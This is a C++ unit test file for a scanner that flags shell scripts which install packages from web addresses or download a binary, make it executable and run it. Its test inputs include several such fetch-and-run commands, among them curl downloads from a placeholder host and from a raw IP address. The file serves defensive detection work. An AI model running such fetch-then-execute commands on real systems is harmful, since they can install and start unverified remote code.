#include <gtest/gtest.h>

#include "detect/detector_test_support.h"
#include "format/shell.h"

namespace lazaret::detect {

extern const Detector install_at_start_detector, dropper_detector;

namespace {

struct Collector : FileReport {
  std::vector<FileFinding> findings;
  void add(FileFinding finding) override { findings.push_back(std::move(finding)); }
  void add_indicator(Indicator, std::uint64_t) override {}
  void add_derived(std::string, std::string, std::uint64_t) override {}
};

// As the image runs it, or (not started) as it lies there.
std::vector<std::string> rules(const Detector& detector, const std::string& text, bool started = true) {
  const format::ShellScript script = format::parse_shell(text);
  FileView view;
  view.path = "/run.sh";
  view.content = as_bytes(text);
  view.file_size = text.size();
  view.type = {format::FileKind::script, format::Language::shell};
  if (started) view.script = &script;
  Collector collector;
  detector.inspect(view, collector);
  std::vector<std::string> ids;
  for (const FileFinding& finding : collector.findings) ids.emplace_back(finding.rule->id);
  return ids;
}

TEST(InstallAtStart, PackagesFromAnAddress) {
  for (const char* text : {"pip install git+https://host.example/x", "python3 -m pip install --user https://host.example/x.whl", "npm install github:someone/x", "npm i https://host.example/x.tgz",
                           "yarn add https://host.example/x.git", "p=pip; $p install git+http://host.example/x"})
    EXPECT_EQ(rules(install_at_start_detector, text), std::vector<std::string>{"dropper.install-from-address"}) << text;
}

TEST(InstallAtStart, PackagesFromAnIndex) {
  for (const char* text : {"pip3 install -r requirements.txt", "npm install", "npx cowsay", "gem install x", "go run host.example/x@latest", "apt-get install -y curl", "apk add --no-cache curl", "uv pip install x"})
    EXPECT_EQ(rules(install_at_start_detector, text), std::vector<std::string>{"dropper.install-at-start"}) << text;
}

TEST(InstallAtStart, OtherUsesAndScriptsThatNobodyStartsAreLeftAlone) {
  for (const char* text : {"npm start", "npm run build", "pip list", "pip install --no-index x", "yarn start", "go version", "apt-get update", "echo npm install", "npm ci --offline", "pip freeze"})
    EXPECT_TRUE(rules(install_at_start_detector, text).empty()) << text;
  EXPECT_TRUE(rules(install_at_start_detector, "pip install git+https://host.example/x", false).empty());
}

TEST(InstallAtStart, AFetchThatIsCheckedIsMilderThanOneThatIsNot) {
  const std::string fetch = "curl -fsSLo /tmp/x https://host.example/x\n", run = "chmod +x /tmp/x\n/tmp/x\n";
  EXPECT_EQ(rules(dropper_detector, fetch + run), std::vector<std::string>{"dropper.fetch-then-start"});
  EXPECT_EQ(rules(dropper_detector, fetch + "echo '0123abcd  /tmp/x' | sha256sum -c\n" + run), std::vector<std::string>{"dropper.fetch-verified"});
  // Printing a sum checks nothing, and an address of a machine is no better for being checked.
  EXPECT_EQ(rules(dropper_detector, fetch + "sha256sum /tmp/x\n" + run), std::vector<std::string>{"dropper.fetch-then-start"});
  EXPECT_EQ(rules(dropper_detector, "curl -o /tmp/x http://203.0.113.7/x\necho '0123abcd  /tmp/x' | sha256sum -c\n" + run), std::vector<std::string>{"dropper.fetch-then-start"});
  EXPECT_TRUE(rules(dropper_detector, fetch + "echo '0123abcd  /tmp/x' | sha256sum -c\n" + run, false).empty());
}

}  // namespace
}  // namespace lazaret::detect
